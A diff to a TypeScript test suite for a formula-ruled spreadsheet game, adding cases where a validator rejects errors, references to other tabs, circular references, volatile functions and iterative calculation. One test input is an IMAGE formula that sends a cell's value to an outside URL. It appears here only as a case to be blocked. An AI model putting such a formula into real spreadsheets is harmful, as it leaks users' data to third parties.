@@ -1,4 +1,4 @@
-import { ask, resolve, stateOf, submit, tryAsk } from '../season.ts';
+import { ask, problemOf, resolve, stateOf, submit, tryAsk } from '../season.ts';
 import { ownMatch, ruledCell, ruleRound, typeRuling } from './season.ts';
 
 describe('a described game that formulas rule', () => {
@@ -30,7 +30,16 @@ describe('a described game that formulas rule', () => {
 
   test.each([
     ['an error', '=1/0', /This round of Two thirds'!G9: found the error #DIVIDE_BY_ZERO, expected a value/],
-    ['a reference to a tab that is gone', '=Gone!A1', /G9: found the error #REF/],
+    ['a reference to a tab that is gone', '=#REF!A1', /G9: found the error #REF, expected a value/],
+    ['another tab', '=Season!B9', /G9: found =Season!B9, expected a formula that reads this tab alone/],
+    ['a circular reference', '=G9+1', /G9: found the error #REF, expected a value/],
+    ['a formula that sends something away', '=IMAGE("https://a.b/"&C9)', /expected a formula without IMAGE/],
+    [
+      'the time',
+      '=NOW()',
+      /G9: found =NOW\(\), expected a formula without NOW: let a column or fact be drawn/,
+    ],
+    ['the date', '=IF(TODAY()>1;1;0)', /expected a formula without TODAY: let/],
     ['a fraction', '=5/2', /G9: found 2.5, expected a whole number/],
     ['a date', '1/2', /G9: found a date or time \(46024\), expected a whole number/],
     ['a text', 'seven', /G9: found the text “seven”, expected a whole number/],
@@ -45,6 +54,29 @@ describe('a described game that formulas rule', () => {
     expect(answer.ok ? '' : answer.problem.what).toMatch(words);
     expect(resolve(host, 1).value).toMatchObject({ ok: false });
     typeRuling(host, 'New: Points', 'Ann', '');
+    ruleRound(host);
+  });
+
+  test('O8 a formula beside the block is checked, too: it may lead into the block', () => {
+    const host = ownMatch('two-thirds');
+    typeRuling(host, 'N20', '', '=RAND()');
+    typeRuling(host, 'New: Points', 'Ann', '=IF(N20>2;1;0)');
+    const answer = tryAsk(host, 'preview', { match: 1, round: 0, early: true });
+    expect(problemOf(answer)).toContain('!N20: found =RAND(), expected a formula without RAND');
+    typeRuling(host, 'N20', '', '=3+4');
+    ruleRound(host);
+    expect(ruledCell(host, 'Points', 'Ann')).toBe(1);
+  });
+
+  test('O2 iterative calculation must be off', () => {
+    const host = ownMatch('two-thirds');
+    const file = host.world.files[host.world.activeWorkbook as string];
+    if (file?.kind === 'workbook') file.workbook.isIterative = true;
+    expect(problemOf(tryAsk(host, 'preview', { match: 1, round: 0, early: true }))).toBe(
+      'The spreadsheet computes circular references: a value would depend on how often it was computed.',
+    );
+    expect(resolve(host, 1).value).toMatchObject({ ok: false });
+    if (file?.kind === 'workbook') file.workbook.isIterative = false;
     ruleRound(host);
   });
 
